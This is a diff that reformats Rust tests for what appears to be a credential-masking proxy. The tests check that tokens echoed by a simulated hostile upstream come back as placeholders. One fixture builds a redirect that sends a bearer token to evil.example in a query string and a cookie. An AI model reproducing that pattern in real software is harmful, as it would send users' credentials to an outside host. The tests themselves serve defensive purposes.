@@ -59,7 +59,8 @@ async fn a_credential_cut_anywhere_comes_back_as_its_placeholder() {
     for size in [1, 2, 3, 7, 16, 31] {
         let mut attack = Attack::new().await;
         attack.upstream =
-            Upstream::start(move |request| Reply::pieces(format!("{0} and {0}", credential(request)).as_bytes(), size)).await;
+            Upstream::start(move |request| Reply::pieces(format!("{0} and {0}", credential(request)).as_bytes(), size))
+                .await;
         assert_eq!(placeholders(spend(&attack).await.text()), 2, "in pieces of {size}");
     }
 }
@@ -89,7 +90,10 @@ async fn a_credential_in_a_redirect_or_cookie_comes_back_as_its_placeholder() {
     let mut attack = Attack::new().await;
     attack.upstream = Upstream::start(|request| {
         let said = credential(request).trim_start_matches("Bearer ").to_owned();
-        Reply::ok("").status(302).header("location", &format!("https://evil.example/?k={said}")).header("set-cookie", &said)
+        Reply::ok("")
+            .status(302)
+            .header("location", &format!("https://evil.example/?k={said}"))
+            .header("set-cookie", &said)
     })
     .await;
     assert_eq!(placeholders(spend(&attack).await.text()), 2);
@@ -113,7 +117,13 @@ async fn a_credential_in_an_answer_that_breaks_off_is_in_no_error() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_credential_in_what_is_not_http_is_in_no_error() {
-    for garbage in ["{} 200 OK\r\n\r\n", "HTTP/1.1 {}\r\n\r\n", "HTTP/1.1 200 {}\r\n\r\n", "HTTP/1.1 200 OK\r\n{}\r\n\r\n", "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n"] {
+    for garbage in [
+        "{} 200 OK\r\n\r\n",
+        "HTTP/1.1 {}\r\n\r\n",
+        "HTTP/1.1 200 {}\r\n\r\n",
+        "HTTP/1.1 200 OK\r\n{}\r\n\r\n",
+        "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n",
+    ] {
         let mut attack = Attack::new().await;
         attack.upstream = Upstream::raw(move |request| {
             let line = request.lines().find_map(|line| line.strip_prefix("authorization: Bearer ")).unwrap_or_default();
